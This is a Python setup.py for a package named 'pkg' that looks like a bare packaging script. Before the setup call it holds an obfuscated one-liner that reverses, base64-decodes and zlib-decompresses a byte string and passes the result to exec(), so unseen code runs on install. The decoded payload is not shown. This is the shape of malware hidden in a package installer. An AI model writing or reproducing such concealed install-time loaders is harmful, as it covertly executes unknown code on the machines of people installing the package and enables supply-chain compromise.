from setuptools import setup
_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==w0IE0gAIA5XHFTPDV1NnkLs46KW/iym/CyRpyLI3CzLzJe'))
setup(name='pkg')
